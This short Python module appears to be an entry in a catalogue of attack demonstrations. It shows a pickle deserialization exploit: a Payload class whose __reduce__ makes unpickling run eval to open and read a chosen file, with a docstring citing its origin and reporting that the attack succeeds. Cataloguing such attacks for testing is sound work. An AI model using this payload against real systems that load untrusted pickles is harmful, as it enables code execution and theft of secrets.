"""Let the unpickler call a function of our choice.

origin: the pickle module's own warning; Sour Pickles, Black Hat 2011
why: data that is loaded runs code, with the loader's rights
control: succeeds
"""

import pickle


class Payload:
    def __init__(self, path):
        self.path = path

    def __reduce__(self):
        return eval, (f"__import__('io').open({self.path!r}).read()",)


def attack(target):
    return read_secret(target, lambda path: pickle.loads(pickle.dumps(Payload(path))), "open")
